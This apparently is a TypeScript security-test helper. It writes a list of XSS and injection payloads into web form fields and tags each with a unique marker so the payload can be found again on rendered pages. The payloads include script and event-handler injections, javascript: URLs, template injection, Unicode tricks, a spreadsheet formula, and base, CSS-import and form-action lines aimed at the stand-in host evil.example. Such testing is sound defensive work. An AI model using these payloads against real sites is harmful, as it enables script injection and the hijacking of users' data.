/** Each tries to run a script of its own by another way; the last ones only to confuse readers and spreadsheets. */
const PAYLOADS = [
  '<script>__pwned=1</script>',
  '</script><script>__pwned=2</script>',
  '<img src=x onerror=__pwned=3>',
  '<svg onload=__pwned=4>',
  '"><svg/onload=__pwned=5>',
  "' autofocus onfocus=__pwned=6 x='",
  'javascript:__pwned=7//',
  '[read on](javascript:__pwned=8)',
  "{{constructor.constructor('__pwned=9')()}}",
  '${__pwned=10}',
  '<iframe srcdoc="<script>parent.__pwned=11</script>">',
  '<a href="javascript:__pwned=12">x</a>',
  '--><img src=x onerror=__pwned=13><!--',
  '</textarea></title><img src=x onerror=__pwned=14>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=__pwned=15>',
  ']]><script>__pwned=16</script>',
  '&lt;img src=x onerror=__pwned=17&gt;',
  '<base href=//evil.example><style>@import "//evil.example/x"</style>',
  '<form action=//evil.example><button autofocus>Go</button></form>',
  'data:text/html,<script>__pwned=20</script>',
  '\u202E<script>__pwned=21</script>\u202C',
  '\uFF1Cscript\uFF1E__pwned=22\uFF1C/script\uFF1E',
  '=HYPERLINK("javascript:__pwned=23")',
] as const;

/**
 * Writes hostile words into fields, each with a mark of its own by which it is found again on the pages. Short fields
 * take turns with the payloads, long ones hold them all.
 */
export class HostileWords {
  /** Mark by field: `POST /rounds summary`. */
  readonly marks = new Map<string, string>();
  /** Another one each time: what an earlier run left behind is not taken for its own. */
  private readonly run = Date.now() % 26 ** 5;
  private turn = 0;

  /** @param least padded with the mark when the field wants more */
  for(field: string, most: number, least = 0): string {
    const mark =
      this.marks.get(field) ?? `Zq${letters(this.run)}${letters(this.marks.size).padStart(2, 'a')}x`;
    this.marks.set(field, mark);
    let text = mark;
    for (let n = 0; n < PAYLOADS.length; n++) {
      const next = `${text} ${PAYLOADS[(this.turn + n) % PAYLOADS.length]}`;
      if (next.length <= most) text = next;
    }
    this.turn += 5;
    return text.padEnd(least, '.');
  }
}

/** A number in letters alone: fields that look out for postcodes and telephone numbers let it pass. */
const letters = (n: number): string =>
  [...n.toString(26)].map((digit) => String.fromCharCode(97 + Number.parseInt(digit, 26))).join('');
